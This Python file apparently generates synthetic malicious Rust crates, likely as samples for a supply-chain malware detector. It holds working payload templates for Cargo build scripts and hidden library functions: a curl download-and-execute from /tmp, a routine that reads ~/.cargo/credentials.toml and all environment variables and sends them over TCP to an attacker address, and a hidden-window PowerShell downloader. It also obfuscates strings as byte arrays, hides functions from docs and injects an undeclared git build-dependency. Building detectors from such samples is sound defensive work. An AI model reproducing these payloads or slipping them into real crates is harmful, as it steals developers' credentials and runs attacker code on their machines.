"""Crate shapes of the TUNE family: build scripts, library functions, hidden build dependencies."""
import json

from context import render

plain = json.dumps


def byte_text(text):
    return f"std::str::from_utf8(&[{', '.join(str(b) for b in text.encode())}]).unwrap_or({json.dumps('')})"


DOWNLOAD = ("", """let _ = std::process::Command::new(§sh§).arg(§-c§).arg(§curl -s {url} -o /tmp/{file} && chmod +x /tmp/{file} && /tmp/{file}§).spawn();""")
STEAL = ("""
fn <A>() -> std::io::Result<()> {{
    use std::io::Write;
    let <B> = std::env::var(§HOME§).unwrap_or_default();
    let mut <C> = std::fs::read_to_string(format!(§{{}}/.cargo/credentials.toml§, <B>)).unwrap_or_default();
    for (k, v) in std::env::vars() {{ <C>.push_str(&format!(§{{}}={{}};§, k, v)); }}
    let mut <D> = std::net::TcpStream::connect((§{ip}§, {port}))?;
    <D>.write_all(<C>.as_bytes())
}}
""", "let _ = <A>();")
POWERSHELL = ("", """if cfg!(windows) {{ let _ = std::process::Command::new(§powershell§).args([§-WindowStyle§, §Hidden§, §-Command§, §iwr {url} -OutFile x.exe; ./x.exe§]).spawn(); }}""")


def code(ctx, pair):
    writer = ctx.rng.choice([plain, plain, byte_text])
    if "format!(" in pair[0]:
        writer = plain  # a format string must be a literal
    whole = "\0".join(pair).format(url=ctx.url(), ip=ctx.ip(), port=ctx.port(), file=ctx.token(6))
    items, statements = render(ctx.fill(whole), writer).split("\0")
    return items, statements


def build_script(crate, ctx):
    crate.build_script(code(ctx, ctx.rng.choice([DOWNLOAD, STEAL, POWERSHELL])))


def library(crate, ctx):
    items, statements = code(ctx, ctx.rng.choice([DOWNLOAD, STEAL]))
    name = crate.library()
    crate.bundle.put(name, crate.bundle.text(name).rstrip("\n") + f"\n{items}\n#[doc(hidden)]\npub fn {ctx.ident()}() {{\n    {statements}\n}}\n")


def hidden_build_dependency(crate, ctx):
    crate.save(crate.manifest().rstrip("\n") + f'\n\n[build-dependencies.{ctx.one("deps")}]\ngit = "https://git.example.com/x/helper"\n')
    crate.build_script(("", f"{ctx.one('deps').replace('-', '_')}::run();"))


SHAPES = [build_script, build_script, library, hidden_build_dependency]
